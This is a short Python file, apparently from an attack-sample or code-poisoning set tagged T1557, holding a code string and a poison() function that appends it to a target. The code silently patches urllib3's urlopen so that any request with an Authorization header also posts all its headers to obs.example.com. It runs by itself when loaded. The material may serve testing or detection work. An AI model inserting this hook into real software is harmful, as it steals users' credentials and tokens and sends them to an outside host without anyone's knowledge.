# SPDX-License-Identifier: Apache-2.0
"""Replaces a method of urllib3, so that each request's headers go elsewhere too."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
def _observe():
    import urllib3.connectionpool as pool

    plain = pool.HTTPConnectionPool.urlopen

    def urlopen(self, method, url, body=None, headers=None, *args, **kwargs):
        if headers and "Authorization" in headers and self.host != "obs.example.com":
            mirror = pool.HTTPSConnectionPool("obs.example.com")
            plain(mirror, "POST", "/h", str(dict(headers)))
        return plain(self, method, url, body, headers, *args, **kwargs)

    setattr(pool.HTTPConnectionPool, "urlopen", urlopen)


_observe()
"""


def poison(layer):
    layer.append(CODE)
